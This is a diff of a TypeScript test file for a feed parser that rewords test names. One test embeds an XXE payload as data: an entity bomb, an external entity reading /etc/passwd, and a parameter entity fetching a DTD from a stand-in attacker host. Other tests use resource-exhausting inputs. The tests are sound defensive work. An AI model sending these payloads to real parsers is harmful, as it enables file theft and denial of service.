@@ -1,8 +1,7 @@
 import fc from "fast-check";
 import { describe, expect, test } from "vitest";
 import { maxEntries } from "../../src/feeds/parse/entry.ts";
-import { parseFeed } from "../../src/feeds/parse/parse-feed.ts";
-import { parseInThread } from "../../src/feeds/parse/parse-in-thread.ts";
+import { parseFeed, parseInThread } from "../../src/feeds/parse/parse-feed.ts";
 import { onThisMachine } from "../fixtures/busy-machine.ts";
 import { rss } from "../fixtures/feed-server.ts";
 
@@ -76,7 +75,7 @@ describe("a feed", () => {
     expect([null, published]).toContain(feed.entries[0]!.publishedMs);
   });
 
-  test("is none: a page, other XML, other JSON, a picture, nothing", () => {
+  test("is not found in a page, other XML, other JSON, a picture or an empty document", () => {
     const others = [
       "<!doctype html><title>Herald</title>",
       "<opml><body/></opml>",
@@ -88,7 +87,7 @@ describe("a feed", () => {
     for (const other of others) expect(parse(other), other).toBeNull();
   });
 
-  test("tells its ttl, its hubs and itself, in Atom, in RSS and in JSON", () => {
+  test("names its ttl, its hubs and its own address, in RSS and in JSON", () => {
     const links =
       '<atom:link rel="hub" href="https://hub.example/"/><atom:link rel="self" href="https://herald.example/rss"/>';
     expect(parse(rss([], `<ttl> 15 </ttl>${links}`))).toMatchObject({
@@ -111,12 +110,12 @@ describe("titles", () => {
     ["in CDATA", "<![CDATA[Fish &amp; <b>chips</b>]]>", "Fish & chips"],
     ["with a sign that is no tag", "5 &lt; 6 and 7 &gt; 6", "5 < 6 and 7 > 6"],
     ["over several lines", "Fish\n   and\tchips", "Fish and chips"],
-    ["with what turns the direction of text", "Fish \u202eand\u202c chips", "Fish and chips"],
+    ["with characters that change the direction of text", "Fish \u202eand\u202c chips", "Fish and chips"],
   ] as const)("are clean text: %s", ([, written, read]) => {
     expect(first(rss([{ title: written, link: "https://a.example/" }]))!.title).toBe(read);
   });
 
-  test("of Atom are text unless they say html", () => {
+  test("of Atom are text unless their type is html", () => {
     const atom = (type: string) =>
       `<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><title ${type}>R&amp;amp;D</title></entry></feed>`;
     expect(first(atom(""))!.title).toBe("R&amp;D");
@@ -151,7 +150,7 @@ describe("links", () => {
     expect(first(rss([{ title: "x", more }]))!.url).toBe(address);
   });
 
-  test("are relative to xml:base where there is one", () => {
+  test("are relative to xml:base if there is one", () => {
     const text = `<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://base.example/news/"><entry xml:base="city/"><id>1</id><link href="bridge"/></entry></feed>`;
     expect(first(text)!.url).toBe("https://base.example/news/city/bridge");
   });
@@ -170,12 +169,12 @@ describe("encodings", () => {
     ["windows-1252 that says nothing", latin1(declared("UTF-8").replace(/<\?xml.*?\?>/, "")), undefined],
     ["UTF-16 with a byte order mark", Buffer.from(`\ufeff${declared("UTF-16")}`, "utf16le"), undefined],
     ["UTF-16 without one", Buffer.from(declared("UTF-16"), "utf16le"), undefined],
-    ["an encoding that there is not", Buffer.from(declared("X-NONE")), "x-none"],
-  ] as const)("are seen through: %s", ([, body, charset]) => {
+    ["an unknown encoding", Buffer.from(declared("X-NONE")), "x-none"],
+  ] as const)("are recognised: %s", ([, body, charset]) => {
     expect(first(body, charset)!.title).toBe("Müller – Straße");
   });
 
-  test("keep a text readable of which one byte is broken", () => {
+  test("keep a text readable that has one broken byte", () => {
     const body = Buffer.from(declared("UTF-8"));
     body[body.indexOf("Herald")] = 0xff;
     expect(first(body)!.title).toBe("Müller – Straße");
@@ -197,14 +196,14 @@ describe("a document that is broken", () => {
     expect(parse(text)!.entries.map(({ title }) => title)).toEqual(["Fish & chips", "Story 2", "Story 3"]);
   });
 
-  test("expands no entities of its own and fetches none: XXE and entity bombs are text", () => {
+  test("is read without its entity declarations: XXE and entity bombs stay text", () => {
     const bomb = `<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;">
       <!ENTITY file SYSTEM "file:///etc/passwd"><!ENTITY % out SYSTEM "https://attacker.example/x.dtd"> %out;]>`;
     const text = rss([{ title: "&c;&file;", link: "https://a.example/" }]).replace(/<\?xml.*?\?>/, bomb);
     expect(first(text)!.title).toBe("&c;&file;");
   });
 
-  test("never makes it throw, whatever it is", () => {
+  test("never makes the parser throw", () => {
     const pieces = fc.constantFrom(
       "<rss>",
       "<channel>",
@@ -243,13 +242,13 @@ describe("a hostile document", () => {
     ["one endless title", `<rss><channel><item><title>${"&amp;".repeat(megabyte)}`],
     ["a million attributes", `<rss ${"a='b' ".repeat(megabyte / 2)}>`],
     ["brackets of JSON", "[".repeat(4 * megabyte)],
-  ] as const)("takes no longer than it is long: %s", async ([, text]) => {
+  ] as const)("takes time linear in its length: %s", async ([, text]) => {
     const startedMs = performance.now();
     expect((await parseInThread({ url, body: Buffer.from(text) }))?.entries ?? []).toEqual([]);
     expect(performance.now() - startedMs).toBeLessThan(15_000);
   });
 
-  test("of 10 MB is read in a thread of its own, so that nothing else waits, and is cut at 10,000 entries", async () => {
+  test("of 10 MB is parsed in a thread of its own, nothing else waits for it, and it is cut at 10,000 entries", async () => {
     const items = Array.from({ length: 60_000 }, (_, n) => ({
       title: `Story ${n} ${"x".repeat(90)}`,
       link: `https://a.example/${n}`,
@@ -266,7 +265,7 @@ describe("a hostile document", () => {
     clearInterval(beat);
     expect(feed).toMatchObject({ isCut: true });
     expect(feed!.entries).toHaveLength(maxEntries);
-    // Handing over and taking back 10 MB takes a moment, reading them takes seconds.
+    // Passing 10 MB to the thread takes a moment, parsing them takes seconds.
     expect(longestMs).toBeLessThan(onThisMachine(1_000));
   });
 });
